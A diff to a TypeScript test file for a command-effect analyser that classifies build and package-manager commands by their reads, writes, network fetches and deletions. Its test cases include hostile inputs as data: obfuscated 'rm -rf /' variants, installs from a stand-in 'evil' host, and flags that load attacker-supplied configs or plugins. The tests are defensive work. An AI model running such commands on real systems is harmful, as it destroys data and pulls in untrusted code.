@@ -1,8 +1,13 @@
 import { expect, test } from 'bun:test';
-import { describe, withFiles } from '../testing/describe-reading.ts';
+import { readConcurrently, readCrossEnv } from '../node/read-wrapped.ts';
+import { readGoals } from './read-goals.ts';
+import { readJava } from './read-java.ts';
+import { readMake } from './read-make.ts';
+import { describe, withFiles, rowOf } from '../testing/describe-reading.ts';
 
 const CONTEXT = withFiles({
-  '/p/Makefile': 'X := $(shell git describe)\nOUT=dist\n.PHONY: all\nall: build test\n	true\nbuild: x.o\n	@cd src && $(CC) -o $@ x.c\n	rm -rf $(OUT) $(UNK)\n%.o: %.c\n	cc -c $< -o $@\ntest:\n	npm test\n',
+  '/p/Makefile':
+    'X := $(shell git describe)\nOUT=dist\n.PHONY: all\nall: build test\n	true\nbuild: x.o\n	@cd src && $(CC) -o $@ x.c\n	rm -rf $(OUT) $(UNK)\n%.o: %.c\n	cc -c $< -o $@\ntest:\n	npm test\n',
 });
 
 const CASES: readonly (readonly [command: string, reading: string])[] = [
@@ -11,12 +16,21 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ["$'\\x72\\x6d' -rf /", 'unknown'],
   ["a=rm; b='-rf /'; $a $b", 'unknown'],
   ['{rm,-rf,/}', 'unknown'],
-  ['make', 'write workspace:/p, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n)), script((npm test\n)), script((true\n))'],
-  ['make build', 'write workspace:/p, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n))'],
+  [
+    'make',
+    'write workspace:/p, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n)), script((npm test\n)), script((true\n))',
+  ],
+  [
+    'make build',
+    'write workspace:/p, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n))',
+  ],
   ['make -j4 test', 'write workspace:/p, script(git describe), script((npm test\n))'],
   ['make -n all', 'read workspace:/p'],
   ['make -C sub', 'write workspace:/p/sub'],
-  ['make SHELL=/tmp/x build', 'write workspace:/p, execute program:make, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n))'],
+  [
+    'make SHELL=/tmp/x build',
+    'write workspace:/p, execute program:make, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n))',
+  ],
   ['gcc -Wall -O2 -o out main.c', 'write /p/out, write workspace:/p, read /p/main.c'],
   ['gcc -o/etc/x main.c', 'write /etc/x, write workspace:/p, read /p/main.c'],
   ['cmake -S . -B build', 'read tree:/p, write workspace:/p/build, write workspace:/p'],
@@ -29,7 +43,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['go test ./...', 'write workspace:/p'],
   ['go build -o bin/app ./cmd/app', 'write /p/bin/app, write workspace:/p'],
   ['go run .', 'write workspace:/p, read /p'],
-  ['go run example.com/x@latest', 'write workspace:/p, network get:proxy.golang.org, execute program:example.com/x@latest'],
+  [
+    'go run example.com/x@latest',
+    'write workspace:/p, network get:proxy.golang.org, execute program:example.com/x@latest',
+  ],
   ['go test -exec evil ./...', 'execute program:evil, write workspace:/p'],
   ['go env -w GOFLAGS=-toolexec=x', 'execute program:go'],
   ['java -jar target/x.jar', 'write workspace:/p, read /p/target/x.jar'],
@@ -40,10 +57,19 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['gradle publish', 'write workspace:/p, write maven::publish'],
   ['pytest -x tests/test_a.py -k foo', 'write workspace:/p, read /p/tests/test_a.py'],
   ['pytest /tmp/evil.py', 'write workspace:/p, read /tmp/evil.py, execute program:pytest'],
-  ['pip install -r requirements.txt', 'read /p/requirements.txt, write workspace:/p, network get:pypi.org'],
+  [
+    'pip install -r requirements.txt',
+    'read /p/requirements.txt, write workspace:/p, network get:pypi.org',
+  ],
   ['pip install requests==2.1', 'write workspace:/p, network get:pypi.org'],
-  ['pip install git+https://evil/x.git', 'write workspace:/p, network get:pypi.org, network get:https://evil/x.git, execute program:pip'],
-  ['pip install --index-url https://evil/simple x', 'write workspace:/p, network get:https://evil/simple'],
+  [
+    'pip install git+https://evil/x.git',
+    'write workspace:/p, network get:pypi.org, network get:https://evil/x.git, execute program:pip',
+  ],
+  [
+    'pip install --index-url https://evil/simple x',
+    'write workspace:/p, network get:https://evil/simple',
+  ],
   ['pip install -e .', 'write workspace:/p, network get:pypi.org, read tree:/p'],
   ['pip uninstall -y x', 'delete! workspace:/p'],
   ['uv run pytest', 'write workspace:/p, argv(pytest)'],
@@ -85,10 +111,19 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['rmdir a', 'delete! /p/a'],
   ['tsc -p . --outDir /etc', 'read /p, write tree:/etc, write workspace:/p'],
   ['tsc --outFile x.js', 'write /p/x.js, write workspace:/p'],
-  ['eslint src --ext .ts -o report.txt', 'write /p/report.txt, write workspace:/p, read tree:/p/src'],
-  ['eslint -c /tmp/evil.js src', 'read /tmp/evil.js, execute program:eslint, write workspace:/p, read tree:/p/src'],
+  [
+    'eslint src --ext .ts -o report.txt',
+    'write /p/report.txt, write workspace:/p, read tree:/p/src',
+  ],
+  [
+    'eslint -c /tmp/evil.js src',
+    'read /tmp/evil.js, execute program:eslint, write workspace:/p, read tree:/p/src',
+  ],
   ['prettier --check .', 'write workspace:/p, read tree:/p'],
-  ['prettier --plugin=/tmp/x .', 'read /tmp/x, execute program:prettier, write workspace:/p, read tree:/p'],
+  [
+    'prettier --plugin=/tmp/x .',
+    'read /tmp/x, execute program:prettier, write workspace:/p, read tree:/p',
+  ],
   ['biome check --write src', 'write workspace:/p/src'],
   ['biome lint', 'read tree:/p'],
   ['jest --coverageDirectory=/tmp/x', 'write tree:/tmp/x, write workspace:/p'],
@@ -106,7 +141,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['lerna exec -- rm -rf dist', 'write workspace:/p, argv(rm -rf dist)'],
   ['nodemon src/x.js', 'write workspace:/p, argv(node src/x.js)'],
   ["nodemon --exec 'python x.py'", 'write workspace:/p, script(python x.py)'],
-  ["concurrently 'npm:dev' 'rm -rf x'", 'write workspace:/p, execute program:concurrently, script(rm -rf x)'],
+  [
+    "concurrently 'npm:dev' 'rm -rf x'",
+    'write workspace:/p, execute program:concurrently, script(rm -rf x)',
+  ],
   ['run-s prebuild build', 'write workspace:/p, execute program:run-s'],
   ['npm-run-all dev*', 'write workspace:/p, execute program:npm-run-all'],
   ['cross-env NODE_ENV=test jest', 'argv(jest)'],
@@ -130,9 +168,18 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['pip list', 'read workspace:/p'],
   ['pip freeze', 'read workspace:/p'],
   ['pip install $X', 'execute program:pip, write workspace:/p, network get:pypi.org'],
-  ['pip install -e ../x', 'write workspace:/p, network get:pypi.org, read tree:/x, execute program:pip'],
-  ['pip install x --target /usr/lib', 'write workspace:/p, network get:pypi.org, write tree:/usr/lib'],
-  ["pip install 'x @ https://evil/x.whl'", 'write workspace:/p, network get:pypi.org, network get:https://evil/x.whl, execute program:pip'],
+  [
+    'pip install -e ../x',
+    'write workspace:/p, network get:pypi.org, read tree:/x, execute program:pip',
+  ],
+  [
+    'pip install x --target /usr/lib',
+    'write workspace:/p, network get:pypi.org, write tree:/usr/lib',
+  ],
+  [
+    "pip install 'x @ https://evil/x.whl'",
+    'write workspace:/p, network get:pypi.org, network get:https://evil/x.whl, execute program:pip',
+  ],
   ['pip3.11 install x', 'write workspace:/p, network get:pypi.org'],
   ['pip download x -d dir', 'write workspace:/p, network get:pypi.org, write tree:/p/dir'],
   ['pip config set a b', 'unknown'],
@@ -155,7 +202,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['nox -s tests', 'write workspace:/p'],
   ['flake8 src', 'write workspace:/p, read /p/src'],
   ['isort .', 'write workspace:/p'],
-  ["pylint --init-hook 'x' src", 'execute program:pylint, write workspace:/p, read /p/x, read /p/src'],
+  [
+    "pylint --init-hook 'x' src",
+    'execute program:pylint, write workspace:/p, read /p/x, read /p/src',
+  ],
   ['pylint src', 'write workspace:/p, read /p/src'],
   ['alembic upgrade head', 'write workspace:/p, write database::migrate'],
   ['alembic downgrade base', 'write workspace:/p, delete! database::migrate'],
@@ -174,8 +224,14 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['cargo run --bin x', 'write workspace:/p, network get:crates.io'],
   ['cargo add x', 'write workspace:/p, network get:crates.io'],
   ['cargo yank x', 'delete! crates.io::yank'],
-  ['cargo install --git https://evil/x', 'network get:https://evil/x, write workspace:/p, network get:crates.io, execute program:cargo'],
-  ['cargo --config build.rustc=evil build', 'execute program:build.rustc=evil, write workspace:/p, network get:crates.io'],
+  [
+    'cargo install --git https://evil/x',
+    'network get:https://evil/x, write workspace:/p, network get:crates.io, execute program:cargo',
+  ],
+  [
+    'cargo --config build.rustc=evil build',
+    'execute program:build.rustc=evil, write workspace:/p, network get:crates.io',
+  ],
   ['cargo nosuch', 'unknown'],
   ['rustup update', 'write workspace:/p, network get:static.rust-lang.org'],
   ['rustc x.rs -o x', 'write /p/x, write workspace:/p, read /p/x.rs'],
@@ -183,7 +239,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['go get x', 'write workspace:/p, network get:proxy.golang.org'],
   ['go mod tidy', 'write workspace:/p, network get:proxy.golang.org'],
   ['go install ./...', 'write workspace:/p, network get:proxy.golang.org, read /p/...'],
-  ['go install x.y/z@latest', 'write workspace:/p, network get:proxy.golang.org, execute program:x.y/z@latest'],
+  [
+    'go install x.y/z@latest',
+    'write workspace:/p, network get:proxy.golang.org, execute program:x.y/z@latest',
+  ],
   ['go generate ./...', 'write workspace:/p'],
   ['go vet -vettool=evil ./...', 'execute program:evil, write workspace:/p'],
   ['go run /tmp/x.go', 'write workspace:/p, read /tmp/x.go, execute program:go'],
@@ -212,7 +271,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['dart pub publish', 'write workspace:/p, write pub.dev::publish'],
   ['composer install', 'write workspace:/p, network get:repo.packagist.org'],
   ['phpunit', 'write workspace:/p'],
-  ['phpunit --bootstrap /tmp/x.php', 'read /tmp/x.php, execute program:phpunit, write workspace:/p'],
+  [
+    'phpunit --bootstrap /tmp/x.php',
+    'read /tmp/x.php, execute program:phpunit, write workspace:/p',
+  ],
   ['php -l x.php', 'write workspace:/p, read /p/x.php'],
   ["php -r 'x'", 'unknown'],
   ['php artisan migrate', 'write workspace:/p, read /p/artisan'],
@@ -239,12 +301,25 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['hadolint Dockerfile', 'write workspace:/p'],
   ['yamllint .', 'write workspace:/p'],
   ['clang-format -i a.c', 'write workspace:/p/a.c'],
-  ['clang-tidy a.c --config-file=/tmp/x', 'read /tmp/x, execute program:clang-tidy, write workspace:/p'],
+  [
+    'clang-tidy a.c --config-file=/tmp/x',
+    'read /tmp/x, execute program:clang-tidy, write workspace:/p',
+  ],
   ['trivy fs .', 'read workspace:/p, read tree:/p'],
   ['semgrep --config auto .', 'read workspace:/p, read tree:/p'],
   ['trivy image x -o out.json', 'write /p/out.json, read workspace:/p, read tree:/p/x'],
 ];
 
-test.each(CASES)('%s', (command, reading) => {
+test.each(CASES)('%s has exactly its effects', (command, reading) => {
   expect(describe(command, CONTEXT)).toBe(reading);
+});
+
+test.each([
+  ['make', readMake],
+  ['java', readJava],
+  ['mvn', readGoals],
+  ['cross-env', readCrossEnv],
+  ['concurrently', readConcurrently],
+] as const)('%s has its reader in the table', (name, reader) => {
+  expect(rowOf(name)?.read).toBe(reader);
 });
